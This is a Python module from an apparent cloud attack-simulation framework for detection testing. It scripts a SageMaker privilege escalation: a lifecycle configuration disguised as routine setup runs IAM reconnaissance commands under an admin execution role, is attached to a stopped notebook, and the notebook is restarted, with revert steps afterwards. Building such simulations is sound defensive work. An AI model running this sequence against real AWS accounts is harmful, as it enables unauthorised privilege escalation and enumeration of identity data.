"""Attach a malicious lifecycle configuration to a SageMaker notebook, so that its start runs the
attacker's script with the notebook's execution role."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

from botocore.exceptions import ClientError

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique

NOTEBOOK = "analytics-notebook"
ROLE = "analytics-notebook-execution"
CONFIG = "jupyter-env-setup"  # named like a routine setup script
ON_START = """#!/bin/bash
set -e
aws sts get-caller-identity >> /tmp/.cache.log 2>&1
aws iam list-users >> /tmp/.cache.log 2>&1
"""
FAST = {"Delay": 1, "MaxAttempts": 60}
ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"


@technique
class SagemakerUpdateLifecycleConfig(Technique):
    title = "Create/Update SageMaker lifecycle configuration for privilege escalation"
    attack = ("T1059",)
    expects = ("sagemaker_notebook_lifecycle_config_attached",)
    description = (
        "Creates a notebook lifecycle configuration whose on-start script acts with the notebook's "
        "execution role, stops the notebook, attaches the configuration and starts it again."
    )
    synthetic = ("sagemaker:UpdateNotebookInstance",)  # the sandbox lacks the call

    def warmup(self, ctx: Ctx) -> Json:
        admin = ctx.admin()
        trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
                 "Principal": {"Service": "sagemaker.amazonaws.com"}}]}  # fmt: skip
        iam = client("iam", session=admin)
        arn = iam.create_role(RoleName=ROLE, AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"]
        iam.attach_role_policy(RoleName=ROLE, PolicyArn=ADMIN_POLICY)
        client("sagemaker", session=admin).create_notebook_instance(
            NotebookInstanceName=NOTEBOOK, InstanceType="ml.t3.medium", RoleArn=arn
        )
        return {}

    def detonate(self, ctx: Ctx, state: Json) -> None:
        attacker = ctx.attacker()
        sm = client("sagemaker", session=attacker)
        script = base64.b64encode(ON_START.encode()).decode()
        sm.create_notebook_instance_lifecycle_config(
            NotebookInstanceLifecycleConfigName=CONFIG, OnStart=[{"Content": script}]
        )
        sm.stop_notebook_instance(NotebookInstanceName=NOTEBOOK)
        sm.get_waiter("notebook_instance_stopped").wait(NotebookInstanceName=NOTEBOOK, WaiterConfig=FAST)
        update = {"NotebookInstanceName": NOTEBOOK, "LifecycleConfigName": CONFIG}
        ctx.call(attacker, "sagemaker", "UpdateNotebookInstance", update, response={})
        sm.start_notebook_instance(NotebookInstanceName=NOTEBOOK)

    def revert(self, ctx: Ctx, state: Json) -> None:
        admin = ctx.admin()
        sm, iam = client("sagemaker", session=admin), client("iam", session=admin)
        _quietly(sm.stop_notebook_instance, NotebookInstanceName=NOTEBOOK)
        _quietly(sm.delete_notebook_instance, NotebookInstanceName=NOTEBOOK)
        _quietly(sm.delete_notebook_instance_lifecycle_config, NotebookInstanceLifecycleConfigName=CONFIG)
        _quietly(iam.detach_role_policy, RoleName=ROLE, PolicyArn=ADMIN_POLICY)
        _quietly(iam.delete_role, RoleName=ROLE)


def _quietly(call: Callable[..., Any], **params: Any) -> None:
    """A revert step that tolerates what a repeated revert meets: gone, or already stopped."""
    try:
        call(**params)
    except ClientError as exc:
        err = exc.response["Error"]
        text = f"{err.get('Code', '')} {err.get('Message', '')}".lower()
        if not any(
            w in text for w in ("notfound", "nosuchentity", "does not exist", "not found", "validation")
        ):
            raise
